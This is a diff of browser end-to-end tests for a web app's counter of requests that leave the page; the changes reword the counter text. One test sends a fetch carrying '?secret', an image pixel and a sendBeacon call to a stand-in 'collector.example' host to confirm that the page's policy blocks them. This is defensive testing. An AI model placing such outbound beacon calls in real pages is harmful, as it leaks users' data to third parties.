@@ -118,14 +118,14 @@ test('the counter of requests that left the page stays at none through a whole v
   for (const path of ['', 'paynet/auth', 'paysera/mac?tab=learn', 'doctor', 'flows/session-jwt/expiry-and-refresh']) {
     await page.goto(`/#/${path}`);
     await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
-    await expect(departures(page)).toHaveText('0 requests left this page');
+    await expect(departures(page)).toHaveText('0 requests to other sites');
   }
 });
 
 test('the counter is on the smallest screen, too', async ({ page }) => {
   await page.setViewportSize({ width: 360, height: 740 });
   await page.goto('/');
-  await expect(departures(page)).toHaveText('0 requests left this page');
+  await expect(departures(page)).toHaveText('0 requests to other sites');
   await expect(departures(page)).toBeInViewport();
   const overflow = await page.evaluate(() => document.documentElement.scrollWidth - document.body.clientWidth);
   expect(overflow).toBeLessThanOrEqual(0);
@@ -136,19 +136,19 @@ test.describe('what tries to leave', () => {
 
   test('is stopped by the policy, and the counter says so', async ({ page }) => {
     await page.goto('/');
-    await expect(departures(page)).toHaveText('0 requests left this page');
+    await expect(departures(page)).toHaveText('0 requests to other sites');
     const reached: string[] = [];
     await page.route('https://collector.example/**', (route) => {
       reached.push(route.request().url());
       return route.abort();
     });
     await page.evaluate(() => fetch('https://collector.example/?secret').catch(() => {}));
-    await expect(departures(page)).toHaveText('0 requests left this page; 1 request stopped');
+    await expect(departures(page)).toHaveText('0 requests to other sites; 1 request stopped');
     await page.evaluate(() => {
       new Image().src = 'https://collector.example/pixel.png';
       navigator.sendBeacon('https://collector.example/beacon', 'x');
     });
-    await expect(departures(page)).toHaveText('0 requests left this page; 3 requests stopped');
+    await expect(departures(page)).toHaveText('0 requests to other sites; 3 requests stopped');
     expect(reached).toEqual([]);
   });
 });
@@ -161,7 +161,7 @@ test.describe('without the policy', () => {
     // This very server, under a name that is another origin.
     const other = (baseURL ?? '').replace('127.0.0.1', 'localhost');
     await page.evaluate((url) => fetch(url, { mode: 'no-cors' }), `${other}/favicon.svg`);
-    await expect(departures(page)).toHaveText('1 request left this page');
+    await expect(departures(page)).toHaveText('1 request to another site');
   });
 });
 
